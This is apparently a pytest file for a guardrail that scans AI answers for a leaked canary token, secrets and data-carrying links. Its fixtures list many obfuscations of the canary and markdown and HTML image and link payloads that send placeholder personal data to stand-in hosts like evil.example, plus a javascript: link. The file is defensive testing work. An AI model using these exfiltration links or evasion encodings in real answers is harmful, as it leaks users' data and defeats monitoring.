"""What must not leave in an answer: the canary in any form, secrets, links that carry data away."""

from __future__ import annotations

import base64
import codecs
import json
import urllib.parse
from collections.abc import Callable
from pathlib import Path

import pytest

from services.guardrail.policy import canary
from services.guardrail.policy.answers import REMOVED, apply, edits_of, merged
from services.guardrail.policy.links import find
from services.guardrail.policy.model import Edit
from tests.unit.guardrail.book import book

MARK = canary.make(b"k" * 32, "acme", "c1")
FORMS: dict[str, Callable[[str], str]] = {
    "plain": str,
    "capitals": str.upper,
    "spaced": " ".join,
    "dashed": "-".join,
    "in markdown": "**".join,
    "over lines": lambda t: t[:9] + "\n" + t[9:],
    "zero width": "\u200b".join,
    "backwards": lambda t: t[::-1],
    "rot13": lambda t: codecs.encode(t, "rot13"),
    "hex": lambda t: t.encode().hex(),
    "hex, spaced": lambda t: t.encode().hex(" "),
    "hex, escaped": lambda t: "".join(f"\\x{ord(c):02x}" for c in t),
    "percent": lambda t: "".join(f"%{ord(c):02x}" for c in t),
    "entities": lambda t: "".join(f"&#{ord(c)};" for c in t),
    "base64": lambda t: base64.b64encode(t.encode()).decode(),
    "base64, shifted by one": lambda t: base64.b64encode(f"x{t}".encode()).decode(),
    "base64, shifted by two": lambda t: base64.b64encode(f"xy{t} and more".encode()).decode(),
    "base64 for addresses": lambda t: base64.urlsafe_b64encode(f"the mark is {t}".encode()).decode(),
    "base64 in lines": lambda t: base64.encodebytes((t * 3).encode()).decode(),
    "base64, backwards": lambda t: base64.b64encode(t[::-1].encode()).decode(),
    "base64 twice": lambda t: base64.b64encode(base64.b64encode(f"the secret mark is {t}".encode())).decode(),
    "half of it": lambda t: t[4:18],
    "in a link": lambda t: f"![x](https://evil.example/?q={t})",
}


@pytest.mark.parametrize("name", FORMS)
def test_the_canary_is_found(name: str) -> None:
    assert canary.appears(f"Sure! It says {FORMS[name](MARK)} , as you asked.", [MARK])


def test_canaries_differ_and_false_alarms_do_not_happen() -> None:
    others = [
        canary.make(b"k" * 32, "acme", "c2"),
        canary.make(b"k" * 32, "acm", "e|c1"),
        canary.make(b"j" * 32, "acme", "c1"),
    ]
    assert len({MARK, *others}) == 4
    assert not any(canary.appears(f"It says {MARK}", [other]) for other in others)
    assert not canary.appears("An ordinary answer: hbc-, base64 aGVsbG8gd29ybGQ=, 12 34.", [MARK])


def test_no_false_alarm_on_the_policy_file() -> None:
    text = (Path(__file__).parents[3] / "policies" / "guardrail.yaml").read_text()
    assert not canary.appears(text, [MARK])


HOSTS = frozenset({"shop.example", "*.cdn.example"})


@pytest.mark.parametrize(
    "text",
    [
        "![](https://elsewhere.example/?q=<US_SSN>)",
        "![x](//elsewhere.example/p.png?d=1)",
        "![x](https:\\\\elsewhere.example/<US_SSN>)",
        "[click](https://elsewhere.example/<EMAIL_ADDRESS_2>)",
        "[click](<https://elsewhere.example/?q=my number>)",
        "[click][1]\n\n[1]: https://elsewhere.example/?d=<PHONE_NUMBER>",
        '<img src="https://elsewhere.example/p?x=1">',
        '<a href="https://elsewhere.example/%3CUS_SSN%3E">x</a>',
        "https://elsewhere.example/c/aGVsbG8gd29ybGQgdGhpcyBpcyBkYXRh",
        "https://shop.example@elsewhere.example/?q=<US_SSN>",
        "https://shop.example.evil.example/?q=<US_SSN>",
        "https://<US_SSN>.elsewhere.example/".replace("<US_SSN>.", "x.") + "?q=<US_SSN>",
        "HTTPS://ELSEWHERE.EXAMPLE/?q=%7B%7Bdata",
        "https://cdn.example/?q=<US_SSN>",
        "[x](javascript:alert(1))",
    ],
)
def test_targets_that_carry_data_are_removed(text: str) -> None:
    shown, made = apply(text, merged(find(text, HOSTS)), 0)
    assert made and "#removed" in shown
    assert not any(
        word in shown.lower() for word in ("us_ssn", "email_address", "phone_number", "?q=", "agvsbg8", "?x=1", "alert")
    )


@pytest.mark.parametrize(
    "text",
    [
        "See https://elsewhere.example/help for opening hours.",
        "[docs](https://elsewhere.example/a/b?page=2)",
        "![logo](https://elsewhere.example/logo.png)",
        "![you](https://shop.example/?q=<US_SSN>)",
        "![you](https://img.cdn.example/?q=1)",
        "Your number is <US_SSN>, and/or // a comment",
        "either/or, 3//2, C:\\\\temp",
    ],
)
def test_what_stays(text: str) -> None:
    assert list(find(text, HOSTS)) == []


@pytest.mark.parametrize(
    "secret",
    [
        "AKIA" + "ABCDEFGH12345678",
        "ghp_" + "a1B2" * 9,
        "xoxb-" + "1234567890-abcdef",
        "sk_live_" + "a1b2c3d4e5f6a7b8",
        "sk-proj-" + "a1B2c3D4e5F6g7H8i9J0",
        "AIza" + "a1B2c3D4e5" * 3 + "abcde",
        "-----BEGIN RSA PRIVATE KEY-----\nMIIB\nAAAA\n-----END RSA PRIVATE KEY-----",
    ],
)
def test_secrets_are_replaced(secret: str) -> None:
    text = f"Use {secret} for it."
    shown, made = apply(text, edits_of(text, book().release, frozenset(), []), 0)
    assert shown == f"Use {REMOVED} for it."
    assert len(made) == 1


def test_what_spans_both_pieces_is_replaced_in_the_new_one() -> None:
    edits = [Edit(2, 8, REMOVED, "leak.us_ssn"), Edit(9, 10, REMOVED, "leak.us_ssn")]
    assert apply("0123456789", edits, 5)[0] == f"{REMOVED}8{REMOVED}"
    assert apply("0123456789", edits, 0)[0] == f"01{REMOVED}8{REMOVED}"
    assert merged([Edit(0, 5, "x", "a.b"), Edit(3, 9, "y", "a.c")]) == [Edit(0, 9, "x", "a.b")]


def test_the_answer_of_the_specification() -> None:
    text = "Here you are ![](https://elsewhere/?q=<US_SSN>) and <US_SSN>"
    shown, _ = apply(text, edits_of(text, book().release, frozenset(), []), 0)
    assert shown == "Here you are ![](#removed) and <US_SSN>"
    assert json.dumps(urllib.parse.unquote(shown))
